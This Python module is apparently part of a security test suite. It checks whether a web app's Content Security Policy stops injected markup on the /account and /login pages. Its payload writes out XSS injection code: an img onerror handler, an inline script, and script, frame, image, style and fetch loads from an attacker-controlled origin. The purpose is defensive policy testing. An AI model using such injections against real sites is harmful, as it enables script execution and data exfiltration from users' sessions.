"""A page into which markup got all the same: what its policy still lets happen."""

from ..attack import Attack
from ..attacker import Attacker
from ..browser import Sites, in_browser, run
from ..verdict import Verdict, held, succeeded

INJECT = """async elsewhere => {
    const refused = [];
    document.addEventListener('securitypolicyviolation',
        event => refused.push(event.effectiveDirective));
    const box = document.createElement('div');
    document.body.append(box);
    box.innerHTML = `<img src="data:," onerror="window.lab = 'a handler ran'">`
        + `<img src="${elsewhere}/image"><iframe src="${elsewhere}/frame"></iframe>`
        + `<style>body { background: url(${elsewhere}/style) }</style>`;
    for (const set of [{textContent: "window.lab = 'an inline script ran'"},
                       {src: elsewhere + '/script'}])
        document.body.append(Object.assign(document.createElement('script'), set));
    await fetch(elsewhere + '/fetch', {mode: 'no-cors'}).catch(() => null);
    await new Promise(done => setTimeout(done, 100));
    return [window.lab || '', refused.length];
}"""


def _run(attacker: Attacker) -> Verdict:
    return in_browser(attacker, _steps)


def _steps(sites: Sites) -> Verdict:
    page = sites.log_in(sites.target.sign_up())
    reports = 0
    for path in ("/account", "/login"):
        page.goto(sites.app + path, wait_until="load")
        ran, refused = run(page, INJECT, sites.cross)
        if ran:
            return succeeded(f"On {path}, {ran}.")
        if sites.caught:
            return succeeded(f"{path} asked the attacker's site for {sites.caught[0].split()[0]}.")
        reports += refused
    if not reports:
        raise AssertionError("the browser reported no refusal, so nothing was injected")
    return held(f"Nothing injected ran or was sent away; the browser reported {reports} refusals.")


ATTACK = Attack(
    id="xss-policy",
    title="Injected all the same",
    story="A fault lets the attacker's markup into a page. It brings handlers, scripts, frames and"
    " pictures from elsewhere. Without a policy they run, and send away what the page shows.",
    references=("CWE-79", "CWE-693", "ASVS V3.4.3"),
    defences=("pages run nothing that is not theirs",),
    run=_run,
    ours=True,
)
